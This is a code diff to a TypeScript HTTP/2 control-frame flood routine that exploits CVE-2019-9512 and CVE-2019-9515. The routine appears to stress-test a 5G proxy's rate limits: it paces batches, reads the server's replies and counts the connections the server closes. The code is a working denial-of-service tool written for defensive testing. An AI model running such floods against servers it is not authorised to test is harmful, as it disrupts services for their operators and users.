@@ -87,8 +87,9 @@ export interface FloodOptions {
   durationMs: number;
 }
 
-/** Control-frame flood (CVE-2019-9512 PING, CVE-2019-9515 SETTINGS): frames as fast as the server reads them, our
- *  side never reading what it answers; a closed connection is replaced. */
+/** Control-frame flood (CVE-2019-9512 PING, CVE-2019-9515 SETTINGS): `batch` frames per write, a millisecond
+ *  apart, reading the answers (a batch under ~1000 unanswered frames stays under the runtime's own burst bound, so
+ *  only the SEPP's rate bound ends it); a connection the server ends is replaced. */
 export async function controlFlood(open: () => Conn, kind: "settings" | "ping", o: FloodOptions): Promise<Summary> {
   const done = deadline(o.durationMs);
   const all: Conn[] = [];
@@ -106,16 +107,12 @@ export async function controlFlood(open: () => Conn, kind: "settings" | "ping", 
         continue;
       }
       c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
-      c.socket.pause(); // never read the ACKs
       for (let i = 0; i < o.maxWritesPerConn && !done() && (await writeBounded(c, chunk, 500)); i++) {
         bytes += chunk.length;
         frames += o.batch;
+        await sleep(1);
       }
-      if (!c.isClosed()) {
-        // look at what the server said, briefly, then leave
-        c.socket.resume();
-        await Promise.race([c.closed, sleep(300)]);
-      }
+      await Promise.race([c.closed, sleep(300)]);
       c.destroy();
     }
   };
@@ -125,7 +122,9 @@ export async function controlFlood(open: () => Conn, kind: "settings" | "ping", 
     framesWritten: frames,
     mbWritten: Math.round(bytes / 1e5) / 10,
     closedByServer: all.filter((c) => c.closedByServer()).length,
+    goawayEnhanceYourCalm: all.filter((c) => c.frames.goaway === 0xb).length,
     medianLifeMsClosedByServer: Math.round(median(all.filter((c) => c.closedByServer()).map((c) => c.lifetime()))),
+    answersRead: all.reduce((n, c) => n + c.frames.count(kind === "settings" ? FRAME.SETTINGS : FRAME.PING), 0),
   };
 }
 
